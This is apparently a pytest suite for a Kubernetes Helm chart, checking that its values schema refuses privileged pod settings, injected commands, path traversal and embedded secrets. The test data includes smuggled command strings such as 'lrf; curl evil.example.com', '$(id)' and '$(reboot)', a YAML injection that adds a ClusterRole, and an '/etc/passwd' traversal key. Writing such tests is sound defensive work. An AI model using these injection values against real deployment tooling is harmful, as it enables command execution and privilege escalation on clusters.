"""What cannot work, or should not be there, is refused by the schema of the values."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from rendered_chart import CHART, RefusedValuesError, render, values

SECRET = "hunter2hunter2"


def _at(path: str, value: object) -> dict[str, Any]:
    """Values with one setting, at a dotted path."""
    for key in reversed(path.split("/")):
        value = {key: value}
    assert isinstance(value, dict)
    return value


def _spec(**more: object) -> dict[str, object]:
    return {"default": {"data": "s3://data/x.npz", "publish": {"to": "s3://models"}, **more}}


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        # Unknown, or what would weaken the pods.
        ("privileged", True, "additional properties 'privileged' not allowed"),
        ("controller/securityContext", {"privileged": True}, "'securityContext' not allowed"),
        ("controller/hostNetwork", True, "'hostNetwork' not allowed"),
        ("controller/extraVolumes", [{"hostPath": {"path": "/"}}], "'extraVolumes' not allowed"),
        ("pushgateway/securityContext", {"runAsUser": 0}, "'securityContext' not allowed"),
        ("controller/resources/claims", [{"name": "x"}], "'claims' not allowed"),
        # Injections.
        ("fullnameOverride", "x\nkind: ClusterRole", "does not match pattern"),
        ("fullnameOverride", "$(id)", "does not match pattern"),
        ("image/repository", "lrf; curl evil.example.com", "does not match pattern"),
        ("image/tag", "1.0\n      hostNetwork: true", "does not match pattern"),
        ("objectStorage/existingSecret", "a: {b}", "does not match pattern"),
        ("objectStorage/endpoint", "http://x/?a=$(reboot)", "does not match pattern"),
        ("controller/secretEnv", {"A": "secret/key, b: c"}, "does not match pattern"),
        ("controller/secretEnv", {"A B": "secret/key"}, "invalid propertyName"),
        ("controller/nodeSelector", {"a b": "x"}, "invalid propertyName"),
        ("controller/env", {"LRF_X": "a\nb"}, "does not match pattern"),
        ("steps/promotes", ["*"], "does not match pattern"),
        ("specs", {"../../etc/passwd": _spec()["default"]}, "invalid propertyName"),
        ("networkPolicy/egress", [{"cidr": "everywhere", "ports": [1]}], "does not match pattern"),
        # Numbers and units.
        ("controller/replicas", 0, "minimum"),
        ("controller/replicas", 4, "maximum"),
        ("controller/parallel", -1, "minimum"),
        ("controller/attempts", 0, "minimum"),
        ("controller/poll", "0s", "does not match pattern"),
        ("controller/poll", 30, "want string"),
        ("controller/backoff", "-1m", "does not match pattern"),
        ("controller/tmpSize", "-4Gi", "'anyOf' failed"),
        ("networkPolicy/dns/ports", [70000], "maximum"),
        # What the controller would refuse when it starts.
        ("sources", [], "minItems"),
        ("sources", [{"uri": "ftp://models"}], "does not match pattern"),
        ("sources", [{"uri": "s3://models"}] * 2, "equal"),
        ("state", "/var/lib/lrf", "does not match pattern"),
        ("specs", {"default": None}, "minProperties"),
        ("specs", _spec(model="s3://models/x.keras"), "/specs/default/model"),
        ("specs", {"other": {"data": "s3://data/x.npz"}}, "missing property 'publish'"),
        ("specs", {"other": {"data": "x", "publish": {}}}, "missing property 'to'"),
        ("networkPolicy/egress", [{"ports": [1]}], "'oneOf' failed"),
    ],
)
def test_hostile_values_are_refused(path: str, value: object, said: str) -> None:
    with pytest.raises(RefusedValuesError) as refused:
        render(_at(path, value))
    assert said in str(refused.value)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("state", f"s3://key:{SECRET}@models/state"),
        ("sources", [{"uri": f"mlflow+https://user:{SECRET}@mlflow.example.com"}]),
        ("pipelines/host", f"https://user:{SECRET}@kubeflow.example.com"),
        ("pipelines/root", f"s3://key:{SECRET}@models"),
        ("objectStorage/endpoint", f"https://key:{SECRET}@s3.example.com"),
        ("pushgateway/url", f"https://user:{SECRET}@push.example.com"),
        ("controller/env", {"HTTPS_PROXY": f"http://user:{SECRET}@proxy.example.com"}),
        ("controller/env", {"MLFLOW_TRACKING_PASSWORD": SECRET}),
        ("controller/env", {"aws_secret_access_key": SECRET}),
        ("specs", _spec(goal={"x": [f"https://user:{SECRET}@example.com"]})),
        ("steps/cluster", {"env": {"A": f"https://user:{SECRET}@example.com"}}),
        ("steps/cluster", {"env": {"MLFLOW_TRACKING_TOKEN": SECRET}}),
        ("specs", _spec(cluster={"env": {"LRF_SIGNING_KEY_PASSWORD": SECRET}})),
    ],
)
def test_secrets_are_refused_and_not_repeated(path: str, value: object) -> None:
    with pytest.raises(RefusedValuesError) as refused:
        render(_at(path, value))
    assert re.search("an address without user|name a Secret instead", str(refused.value))
    assert SECRET not in str(refused.value)


_FREE = (
    ("controller/podAnnotations", {"example.com/note": "*"}),
    ("controller/podLabels", {"team": "*"}),
    ("controller/nodeSelector", {"pool": "*"}),
    ("controller/env", {"LRF_NOTE": "*"}),
    ("sources", [{"uri": "s3://models/incoming", "spec": "*"}]),
    ("controller/priorityClassName", "*"),
    ("controller/tolerations", [{"key": "*", "operator": "Exists"}]),
    ("image/repository", "*"),
    ("objectStorage/existingSecret", "*"),
    ("steps/serviceAccount/name", "*"),
    ("monitoring/labels", {"release": "*"}),
    ("specs", {"default": {"data": "*", "publish": {"to": "s3://models"}}}),
)
_NASTY = (
    *("true", "1e3", "0x1f", "null", "~", "a: b", "- a", "a # b", "&a", "'", '"', "a\nb: c"),
    *("{{ .Release }}", "\ufffe", "\x85"),
)


@given(
    where=st.sampled_from(_FREE),
    text=st.sampled_from(_NASTY) | st.text(max_size=20),
)
@settings(max_examples=25)
def test_any_text_is_refused_or_arrives_as_it_is(where: tuple[str, Any], text: str) -> None:
    path, shape = where
    filled = json.loads(json.dumps(shape).replace('"*"', json.dumps(text)))
    everything = values("everything")
    try:
        objects = render(_merged(everything, _at(path, filled)))
    except RefusedValuesError as refused:
        assert "meet the specifications of the schema" in str(refused)  # noqa: PT017
        return
    assert [each["kind"] for each in objects] == [each["kind"] for each in render(everything)]
    assert not text or any(text in found for found in _strings(objects))


def _merged(below: Any, above: Any) -> Any:
    if isinstance(below, dict) and isinstance(above, dict):
        return {**below, **{key: _merged(below.get(key), above[key]) for key in above}}
    return above


def _strings(found: Any) -> list[str]:
    """Every string in it, also in YAML that is a string."""
    if isinstance(found, dict):
        return [text for value in found.values() for text in _strings(value)]
    if isinstance(found, list):
        return [text for value in found for text in _strings(value)]
    if isinstance(found, str) and found.startswith(("attempts:", "cluster:")):
        return _strings(yaml.safe_load(found))
    return [found] if isinstance(found, str) else []


def test_schema_and_values_know_the_same_settings() -> None:
    schema = json.loads((CHART / "values.schema.json").read_text())
    defaults = yaml.safe_load((CHART / "values.yaml").read_text())

    def compare(below: dict[str, Any], given: Any, path: str) -> None:
        below = (
            schema["definitions"][below["$ref"].rpartition("/")[2]] if "$ref" in below else below
        )
        if below.get("additionalProperties") is not False or not isinstance(given, dict):
            return
        known = set(below["properties"]) - {"global"}
        if path != "/pushgateway/image":
            assert known - {"requests", "limits"} == set(given) - {"requests", "limits"}, path
        for key in given:
            compare(below["properties"][key], given[key], f"{path}/{key}")

    compare(schema, defaults, "")
